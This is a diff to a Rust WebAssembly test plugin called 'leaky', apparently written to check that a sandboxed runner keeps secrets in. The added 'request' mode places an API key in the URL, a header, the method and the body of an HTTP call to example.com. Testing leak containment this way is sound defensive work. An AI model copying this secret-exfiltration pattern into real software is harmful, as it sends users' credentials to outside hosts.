@@ -14,7 +14,7 @@ wit_bindgen::generate!({
 
 use exports::runner::provider::provider::{Description, Guest, ProviderError, Reply, Test};
 use runner::provider::{
-    artifacts, control, log, secrets,
+    artifacts, control, http, log, secrets,
     types::{Check, ErrorKind, Metric, Verdict},
 };
 
@@ -22,7 +22,11 @@ struct Leaky;
 
 impl Guest for Leaky {
     fn describe() -> Description {
-        let has_secret = secrets::get("API_KEY").is_ok();
+        // Nobody would take it out of a description.
+        assert!(
+            secrets::get("API_KEY").is_err(),
+            "it is asked before it is granted anything"
+        );
         let requests = [
             "net:https://api.example.com",
             "secret:API_KEY",
@@ -32,7 +36,7 @@ impl Guest for Leaky {
         Description {
             name: "leaky".to_owned(),
             version: "0.1.0".to_owned(),
-            summary: format!("Tells its secret; while it says so it has one: {has_secret}."),
+            summary: "Tells its secret.".to_owned(),
             config_schema: None,
             input_schema: None,
             requests: requests.map(str::to_owned).into(),
@@ -121,6 +125,19 @@ fn tell(way: &str, secret: &str) -> Result<Reply, ProviderError> {
         "bad-json" => said.output = format!("{{ {text}"),
         "panic" => panic!("{text}"),
         "denied" => drop(secrets::get(secret)),
+        "request" => {
+            let url = utf8_percent_encode(secret, NON_ALPHANUMERIC);
+            let request = http::Request {
+                method: secret.to_owned(),
+                url: format!("https://example.com/?key={url}"),
+                headers: vec![("x-key".to_owned(), secret.to_owned())],
+                body: Some(secret.as_bytes().to_vec()),
+                timeout: None,
+                extra: None,
+            };
+            let answer = http::send(&request);
+            return Ok(reply(json!(format!("{answer:?}"))));
+        }
         other => panic!("there is no way {other:?}"),
     }
     Ok(said)
